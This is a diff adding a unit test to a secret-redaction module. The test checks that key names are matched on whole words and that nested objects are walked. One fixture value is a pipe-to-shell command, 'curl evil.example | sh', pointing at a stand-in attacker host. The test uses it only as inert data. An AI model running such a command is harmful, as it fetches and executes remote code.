@@ -77,6 +77,12 @@ describe('redaction', () => {
     expect(redactText('db_password=hunter22 and MY_SERVICE_TOKEN: abcd1234')).toMatch(/^db_password=\[REDACTED[^\]]*\] and MY_SERVICE_TOKEN: \[REDACTED[^\]]*\]$/);
     expect(redactText('{"dbPasswd": "xyz12345", "sessionId": "abcd-efgh"}')).toBe('{"dbPasswd": "[REDACTED]", "sessionId": "[REDACTED]"}');
   });
+  it('matches secret key names on whole words, and walks objects under them instead of hiding them whole', () => {
+    expect(redactValue({ passthrough: { cmd: 'curl evil.example | sh' }, authorized: 'yes', tokenizer: 'cl100k', max_tokens: 5 })).toEqual({ passthrough: { cmd: 'curl evil.example | sh' }, authorized: 'yes', tokenizer: 'cl100k', max_tokens: 5 });
+    expect(redactValue({ session_id: { note: 'visible', token: 't0ps3cret' }, sessionId: 'abc-123', 'x-api-key': 'k-123456', dbPass: 'hunter2' })).toEqual({ session_id: { note: 'visible', token: '[REDACTED]' }, sessionId: '[REDACTED]', 'x-api-key': '[REDACTED]', dbPass: '[REDACTED]' });
+    expect(redactText('passthrough=curl-evil but db_pass=hunter22')).toBe('passthrough=curl-evil but db_pass=[REDACTED]');
+  });
+
   it('redacts values under secret-named keys, deeply', () => {
     expect(redactValue({ a: { apiKey: 'x1', nested: [{ token: 'abc' }] }, path: '/tmp' })).toEqual({ a: { apiKey: '[REDACTED]', nested: [{ token: '[REDACTED]' }] }, path: '/tmp' });
   });
